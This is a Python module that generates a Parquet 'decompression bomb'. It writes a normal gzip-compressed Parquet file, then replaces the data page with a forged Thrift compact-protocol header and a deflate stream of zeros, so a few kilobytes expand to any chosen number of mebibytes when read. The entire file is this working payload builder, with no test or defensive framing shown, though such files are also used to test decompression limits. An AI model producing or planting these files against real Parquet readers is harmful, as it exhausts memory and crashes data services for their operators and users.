"""A Parquet file of a few kilobytes whose only page unpacks to as much as its header claims."""

import io
import zlib

import pyarrow as pa
import pyarrow.parquet as pq

PIECE = bytes(1024 * 1024)
GZIP_WINDOW = 31
FIELD_OF_I32, PAGE_IS_DATA, PADDING = 0x15, 0, 0xA8
DATA_PAGE_HEADER, STOP = 0x2C, 0x00
PLAIN, RLE = 0, 3


def parquet_bomb(mebibytes: int) -> bytes:
    """The footer claims one small page; the header of the page claims this size, which its content has."""
    bomb = _packed_zeros(mebibytes)
    # A text that cannot be compressed makes the room in which the bomb is put.
    room = _incompressible(len(bomb) + 1024)
    whole = io.BytesIO()
    table = pa.table({"x": [room]})
    pq.write_table(table, whole, compression="gzip", use_dictionary=False, write_statistics=True)
    content = whole.getvalue()
    column = pq.ParquetFile(whole).metadata.row_group(0).column(0)
    start, size = column.data_page_offset, column.total_compressed_size
    header = _page_header(mebibytes * len(PIECE), size, len(bomb))
    assert len(header) + len(bomb) == size
    return content[:start] + header + bomb + content[start + size :]


def _page_header(unpacked: int, size: int, packed: int) -> bytes:
    """The header in Thrift's compact protocol, padded by an unknown field to fill the chunk."""
    sizes = b"".join(_i32(value) for value in (PAGE_IS_DATA, unpacked, packed))
    data = bytes([DATA_PAGE_HEADER]) + b"".join(_i32(value) for value in (1, PLAIN, RLE, RLE)) + bytes([STOP])
    room = size - packed - len(sizes + data) - len(bytes([PADDING, STOP]))
    length = next(n for n in range(room, 0, -1) if len(_varint(n)) + n == room)
    return sizes + data + bytes([PADDING]) + _varint(length) + bytes(length) + bytes([STOP])


def _i32(value: int) -> bytes:
    return bytes([FIELD_OF_I32]) + _varint(value * 2)


def _varint(value: int) -> bytes:
    digits = bytearray()
    while value > 0x7F:
        digits.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*digits, value])


def _packed_zeros(mebibytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, GZIP_WINDOW)
    return b"".join(packer.compress(PIECE) for _ in range(mebibytes)) + packer.flush()


def _incompressible(size: int) -> str:
    """A text that takes at least this size when it is packed."""
    return "".join(f"{zlib.crc32(number.to_bytes(4)):08x}" for number in range(size // 3))
